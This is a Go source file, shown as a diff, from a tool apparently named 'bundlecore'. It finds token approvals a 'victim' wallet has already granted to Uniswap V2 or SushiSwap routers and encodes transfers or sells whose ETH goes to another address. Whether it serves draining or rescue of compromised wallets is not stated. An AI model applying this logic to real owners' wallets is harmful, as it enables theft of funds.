@@ -0,0 +1,245 @@
+package bundlecore
+
+import (
+	"context"
+	"fmt"
+	"math/big"
+	"strings"
+
+	"github.com/ethereum/go-ethereum"
+	"github.com/ethereum/go-ethereum/common"
+	"github.com/ethereum/go-ethereum/ethclient"
+)
+
+// NamedRouter is a V2-style router (same ABI as UniswapV2Router02) and its display name.
+type NamedRouter struct {
+	Name    string
+	Address common.Address
+}
+
+// Mainnet V2-style routers we know how to call.
+var KnownV2Routers = []NamedRouter{
+	{"UniswapV2", common.HexToAddress("0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D")},
+	{"SushiSwap", common.HexToAddress("0xd9e1cE17f2641f24aE83637ab66a2cca9C378B9F")},
+}
+
+// mainnetWETH is the WETH used as the sell path tail (same as preflight7702).
+var mainnetWETH = common.HexToAddress("0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2")
+
+// Route values for Params.Route.
+const (
+	RouteTransfer = "transfer" // default: victim calls token.transfer(To, amount)
+	RouteRouter   = "router"   // victim sells via an already-approved router, ETH goes to To
+	RouteAuto     = "auto"     // transfer, or router when transfer preflight fails and an approval exists
+)
+
+// Allowance returns token.allowance(owner, spender).
+func Allowance(ctx context.Context, ec *ethclient.Client, token, owner, spender common.Address) (*big.Int, error) {
+	data := append(sel("allowance(address,address)"), common.LeftPadBytes(owner.Bytes(), 32)...)
+	data = append(data, common.LeftPadBytes(spender.Bytes(), 32)...)
+	ret, err := callWithRetry(ctx, ec, ethereum.CallMsg{To: &token, Data: data})
+	if err != nil {
+		return nil, err
+	}
+	if len(ret) < 32 {
+		return big.NewInt(0), nil
+	}
+	return new(big.Int).SetBytes(ret[len(ret)-32:]), nil
+}
+
+// FindApprovedRouter returns the first known router the owner already approved for >= amount.
+// No new approval is ever needed for the route this enables.
+func FindApprovedRouter(ctx context.Context, ec *ethclient.Client, token, owner common.Address, amount *big.Int) (router common.Address, name string, ok bool) {
+	return FindApprovedRouterOn(ctx, Mainnet, ec, token, owner, amount)
+}
+
+// FindApprovedRouterOn is FindApprovedRouter among chain's routers (sellRouters).
+func FindApprovedRouterOn(ctx context.Context, chain Chain, ec *ethclient.Client, token, owner common.Address, amount *big.Int) (router common.Address, name string, ok bool) {
+	for _, r := range chain.sellRouters() {
+		a, err := Allowance(ctx, ec, token, owner, r.Address)
+		if err == nil && a.Cmp(amount) >= 0 {
+			return r.Address, r.Name, true
+		}
+	}
+	return common.Address{}, "", false
+}
+
+// EncodeSwapExactTokensForETH encodes
+// swapExactTokensForETHSupportingFeeOnTransferTokens(amountIn, amountOutMin, [token, WETH], to, deadline).
+// The fee-on-transfer variant also works for plain tokens and does not revert on taxed ones.
+func EncodeSwapExactTokensForETH(token common.Address, amountIn, amountOutMin *big.Int, to common.Address, deadline int64) []byte {
+	return EncodeSwapExactTokensForETHOn(Mainnet, token, amountIn, amountOutMin, to, deadline)
+}
+
+// EncodeSwapExactTokensForETHOn is EncodeSwapExactTokensForETH with chain's wrapped native
+// token at the tail of the path.
+func EncodeSwapExactTokensForETHOn(chain Chain, token common.Address, amountIn, amountOutMin *big.Int, to common.Address, deadline int64) []byte {
+	word := func(b []byte) []byte { return common.LeftPadBytes(b, 32) }
+	data := sel("swapExactTokensForETHSupportingFeeOnTransferTokens(uint256,uint256,address[],address,uint256)")
+	data = append(data, word(amountIn.Bytes())...)
+	data = append(data, word(amountOutMin.Bytes())...)
+	data = append(data, word(big.NewInt(5*32).Bytes())...) // offset of path
+	data = append(data, word(to.Bytes())...)
+	data = append(data, word(big.NewInt(deadline).Bytes())...)
+	data = append(data, word(big.NewInt(2).Bytes())...) // path length
+	data = append(data, word(token.Bytes())...)
+	data = append(data, word(chain.WETH.Bytes())...)
+	return data
+}
+
+// sellRouters are the routers the router route may sell through on c: the known mainnet
+// routers, the chain table's V2 router elsewhere, none for a chain outside the table.
+func (c Chain) sellRouters() []NamedRouter {
+	if c.ID == Mainnet.ID {
+		return KnownV2Routers
+	}
+	if c.V2Router == (common.Address{}) {
+		return nil
+	}
+	return []NamedRouter{{c.V2Name, c.V2Router}}
+}
+
+// pickSellRouter applies p.Route: nil means plain transfer, otherwise the approved router to sell through.
+func pickSellRouter(ctx context.Context, ec *ethclient.Client, p *Params) (*common.Address, error) {
+	route := strings.ToLower(strings.TrimSpace(p.Route))
+	switch route {
+	case "", RouteTransfer:
+		return nil, nil
+	case RouteRouter, RouteAuto:
+	default:
+		return nil, fmt.Errorf("unknown route %q", p.Route)
+	}
+	if route == RouteAuto {
+		ok, reason, err := CachedPreflightTransfer(ctx, p.Cache, p.CacheTTL, ec, p.Token, p.From, p.To, p.AmountWei)
+		if err != nil || ok {
+			return nil, nil
+		}
+		p.logf("[route] transfer preflight fails (%s) — looking for an approved router", reason)
+	}
+	chain, known := ChainByID(p.ChainID)
+	if !known {
+		if route == RouteAuto {
+			p.logf("[route] chain %s: no V2 router/WETH known — staying on transfer", p.ChainID)
+			return nil, nil
+		}
+		return nil, fmt.Errorf("route=router: no V2 router/WETH known for chain %s (known: %s)", p.ChainID, strings.Join(KnownChainNames(), ", "))
+	}
+	r, name, ok := FindApprovedRouterOn(ctx, chain, ec, p.Token, p.From, p.AmountWei)
+	if !ok {
+		if route == RouteAuto {
+			p.logf("[route] no approved router found — staying on transfer")
+			return nil, nil
+		}
+		return nil, fmt.Errorf("no approved router for token (route=router)")
+	}
+	p.logf("[route] selling via %s router %s (existing allowance, no delegate)", name, r.Hex())
+	logSellTax(ctx, ec, p)
+	return &r, nil
+}
+
+// QuoteTokenToETH prices amount of token in wei via UniswapV2 getAmountsOut([token, WETH]).
+// Tokens without a pool (or a reverting quote) return an error.
+func QuoteTokenToETH(ctx context.Context, ec *ethclient.Client, token common.Address, amount *big.Int) (*big.Int, error) {
+	if token == mainnetWETH && amount != nil {
+		return new(big.Int).Set(amount), nil
+	}
+	return QuoteV2Path(ctx, ec, amount, token, mainnetWETH)
+}
+
+// QuoteTokenToETHOn is QuoteTokenToETH through chain's V2 router and wrapped native token.
+func QuoteTokenToETHOn(ctx context.Context, chain Chain, ec *ethclient.Client, token common.Address, amount *big.Int) (*big.Int, error) {
+	if chain.V2Router == (common.Address{}) {
+		return nil, fmt.Errorf("no V2 router known for chain %d", chain.ID)
+	}
+	if token == chain.WETH && amount != nil {
+		return new(big.Int).Set(amount), nil
+	}
+	return quoteV2PathVia(ctx, ec, chain.V2Router, amount, token, chain.WETH)
+}
+
+// QuoteETHTo prices amount wei of ETH in token units via getAmountsOut([WETH, token]).
+func QuoteETHTo(ctx context.Context, ec *ethclient.Client, token common.Address, amount *big.Int) (*big.Int, error) {
+	return QuoteV2Path(ctx, ec, amount, mainnetWETH, token)
+}
+
+// QuoteV2Path returns the output of the UniswapV2 router's getAmountsOut(amount, path).
+func QuoteV2Path(ctx context.Context, ec *ethclient.Client, amount *big.Int, path ...common.Address) (*big.Int, error) {
+	return quoteV2PathVia(ctx, ec, KnownV2Routers[0].Address, amount, path...)
+}
+
+func quoteV2PathVia(ctx context.Context, ec *ethclient.Client, router common.Address, amount *big.Int, path ...common.Address) (*big.Int, error) {
+	if amount == nil || amount.Sign() <= 0 {
+		return big.NewInt(0), nil
+	}
+	word := func(b []byte) []byte { return common.LeftPadBytes(b, 32) }
+	data := sel("getAmountsOut(uint256,address[])")
+	data = append(data, word(amount.Bytes())...)
+	data = append(data, word(big.NewInt(2*32).Bytes())...) // offset of path
+	data = append(data, word(big.NewInt(int64(len(path))).Bytes())...)
+	for _, a := range path {
+		data = append(data, word(a.Bytes())...)
+	}
+	ret, err := callWithRetry(ctx, ec, ethereum.CallMsg{To: &router, Data: data})
+	if err != nil {
+		return nil, err
+	}
+	// returns uint256[] {amountIn, ..., amountOut}: offset, length, then len(path) words
+	if len(ret) < (2+len(path))*32 {
+		return nil, fmt.Errorf("getAmountsOut: short answer")
+	}
+	return new(big.Int).SetBytes(ret[(1+len(path))*32 : (2+len(path))*32]), nil
+}
+
+// DefaultSellSlippageBps is the router sell's slippage when Params.SellSlippageBps is 0.
+const DefaultSellSlippageBps = 100
+
+// sellMinOut is the swap's amountOutMin: SellMinOutWei when set, otherwise the router's
+// getAmountsOut for what the pool receives (transfer tax off) minus SellSlippageBps.
+// Without a quote there is no sell: amountOutMin 0 would sell at any price.
+func sellMinOut(ctx context.Context, ec *ethclient.Client, p *Params, router common.Address) (*big.Int, error) {
+	if p.SellMinOutWei != nil {
+		return p.SellMinOutWei, nil
+	}
+	sold := p.AmountWei
+	if tax, err := SimulateTransferTax(ctx, ec.Client(), p.Token, p.From, p.To, p.AmountWei); err == nil {
+		sold = tax.ReceivedAfter(p.AmountWei)
+	}
+	chain, _ := ChainByID(p.ChainID) // pickSellRouter only picks a router on a known chain
+	quote, err := quoteV2PathVia(ctx, ec, router, sold, p.Token, chain.WETH)
+	if err != nil {
+		return nil, fmt.Errorf("no sell quote from router %s (%v): set SELL_MIN_OUT_WEI", router.Hex(), err)
+	}
+	if quote.Sign() == 0 {
+		return nil, fmt.Errorf("sell quote is 0 on router %s: set SELL_MIN_OUT_WEI", router.Hex())
+	}
+	bps := p.SellSlippageBps
+	if bps <= 0 || bps >= 10_000 {
+		bps = DefaultSellSlippageBps
+	}
+	return MinOut(quote, bps), nil
+}
+
+// logSellTax reports the token's fee-on-transfer before a router sell: the pool receives
+// amount × (1 − tax), so the quote and SELL_MIN_OUT_WEI have to be judged on that amount.
+func logSellTax(ctx context.Context, ec *ethclient.Client, p *Params) {
+	tax, err := SimulateTransferTax(ctx, ec.Client(), p.Token, p.From, p.To, p.AmountWei)
+	if err != nil {
+		p.logf("[route] transfer tax not measured: %v", err)
+		return
+	}
+	if tax.Bps() == 0 {
+		p.logf("[route] transfer tax: none")
+		return
+	}
+	sold := tax.ReceivedAfter(p.AmountWei)
+	chain, _ := ChainByID(p.ChainID)
+	quote, qerr := QuoteTokenToETHOn(ctx, chain, ec, p.Token, sold)
+	if qerr != nil {
+		p.logf("[route] transfer tax %s%%: the pool receives %s of %s (no quote: %v)", tax.Pct(), sold, p.AmountWei, qerr)
+		return
+	}
+	p.logf("[route] transfer tax %s%%: the pool receives %s of %s, quote ≈ %s ETH", tax.Pct(), sold, p.AmountWei, fmtETH(quote))
+	if p.SellMinOutWei != nil && p.SellMinOutWei.Cmp(quote) > 0 {
+		p.logf("[warn] SELL_MIN_OUT_WEI=%s is above the taxed quote — the swap will revert", p.SellMinOutWei)
+	}
+}